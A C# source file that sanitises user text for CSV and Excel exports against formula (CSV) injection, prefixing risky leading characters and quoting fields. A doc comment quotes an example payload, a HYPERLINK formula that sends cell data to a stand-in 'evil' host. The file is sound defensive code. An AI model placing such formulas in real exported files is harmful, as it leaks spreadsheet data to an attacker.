namespace Loyalty.Core.Common;

/// <summary>
/// Text that users typed (names, reviews, summaries, references) on its way into a CSV or Excel file. A cell that
/// starts with <c>= + - @</c>, a tab or a carriage return is a formula to Excel and LibreOffice ("CSV injection",
/// e.g. <c>=HYPERLINK("http://evil/?"&amp;A1)</c>); prefixing an apostrophe makes it plain text that shows as typed.
/// Every export goes through this one helper (docs/decisions/0113).
/// </summary>
public static class SpreadsheetText
{
    public static string Safe(string? value)
    {
        if (string.IsNullOrEmpty(value)) return "";
        return StartsFormula(value[0]) ? "'" + value : value;
    }

    public static bool StartsFormula(char first) => first is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n' or '＝' or '＋' or '－' or '＠';
}

/// <summary>
/// The one way CSV lines are written (docs/decisions/0123): every text field goes through <see cref="SpreadsheetText.Safe"/>
/// and is quoted when it holds a comma, quote or line break; numbers and dates are written invariantly. Generated values
/// (codes, ids) come out byte for byte as before, so published files keep their hashes.
/// </summary>
public static class CsvText
{
    public static string Row(params object?[] fields) => string.Join(',', fields.Select(Field));

    public static string Field(object? value) => value switch
    {
        null => "",
        string text => Quote(SpreadsheetText.Safe(text)),
        DateTime at => at.ToString("yyyy-MM-dd HH:mm:ss", System.Globalization.CultureInfo.InvariantCulture),
        IFormattable number => number.ToString(null, System.Globalization.CultureInfo.InvariantCulture),
        _ => Quote(SpreadsheetText.Safe(value.ToString())),
    };

    /// <summary>For writers of millions of rows (print files): the same rule without allocating.</summary>
    public static void Write(TextWriter writer, ReadOnlySpan<char> text)
    {
        if (text.IndexOfAny(",\"\r\n") >= 0)
        {
            writer.Write(Field(text.ToString()));
            return;
        }
        if (text.Length > 0 && SpreadsheetText.StartsFormula(text[0])) writer.Write('\'');
        writer.Write(text);
    }

    private static string Quote(string text) =>
        text.AsSpan().IndexOfAny(",\"\r\n") < 0 ? text : "\"" + text.Replace("\"", "\"\"") + "\"";
}
